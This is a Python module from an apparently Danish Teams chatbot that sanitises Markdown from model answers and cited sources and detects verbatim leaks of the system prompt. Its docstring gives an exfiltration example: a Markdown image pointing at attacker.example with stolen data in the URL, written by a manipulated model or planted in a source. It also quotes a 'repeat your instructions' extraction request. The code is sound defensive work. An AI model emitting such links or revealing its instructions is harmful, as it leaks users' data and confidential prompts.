"""What a model wrote, or a source says, made safe to show: no images, no raw HTML, links only to
known places, personal data restored only where it is read as text.

A model can be talked into writing ``![x](https://attacker.example/p.png?q=<data>)``: Teams would
fetch the image and hand the data to the attacker without a click, and a source document can carry the
same. So everything any door shows (answers, streamed text, cited passages, their headings and titles,
search results, ``/kilde``) passes ``sanitise``, which parses it as CommonMark and decides every node
(``bot.llm.safe_markdown``); link hosts are decided as a browser reads the URL (``bot.llm.links``).

- images become their alt text; raw HTML is removed (``<script>``/``<style>`` with their content);
- a link is kept only when it is ``https`` to an allowed host (``AARHUSAI_LINK_HOSTS``; a host also
  allows its subdomains) or is one of the specialist's own source URLs, and is written with the URL
  that was checked; any other link shows its words only (a citation marker ``[1]`` stays), and a
  bare URL or an autolink that is not allowed is replaced by a note that a link was removed;
- ``restore`` puts personal data back in text nodes only: never in a link target, an image, HTML,
  code, or a word that looks like part of a URL.
"""

from __future__ import annotations

import re

from bot.llm.links import LinkPolicy
from bot.llm.safe_markdown import Restore, render_safe

__all__ = ["REMOVED", "InstructionGuard", "LinkPolicy", "sanitise"]

REMOVED = {"da": "(link fjernet)", "en": "(link removed)"}


def sanitise(text: str, policy: LinkPolicy, locale: str = "da", restore: Restore | None = None) -> str:
    """``text`` as safe Markdown; ``restore`` (placeholders back to values) applied to text nodes only.

    Idempotent: a sanitised text sanitised again is unchanged (without ``restore``)."""
    return render_safe(text, policy, REMOVED.get(locale, REMOVED["da"]), restore)


LEAK_WORDS = 12  # this many consecutive words of the instructions in an answer is a leak


def _words(text: str) -> list[str]:
    return re.findall(r"\w+", text.lower())


class InstructionGuard:
    """Does an answer repeat ``window`` consecutive words of the system prompt? (A Builder's prompt may
    hold what employees should not read verbatim; "repeat your instructions" must not work.) Built once
    per answer, so a streamed answer can be checked at every chunk without re-reading the prompt."""

    def __init__(self, instructions: str, window: int = LEAK_WORDS) -> None:
        source = _words(instructions)
        self.window = window
        self.grams = {tuple(source[i : i + window]) for i in range(len(source) - window + 1)}

    def leaks(self, answer: str) -> bool:
        if not self.grams:
            return False
        said, w = _words(answer), self.window
        return any(tuple(said[i : i + w]) in self.grams for i in range(len(said) - w + 1))
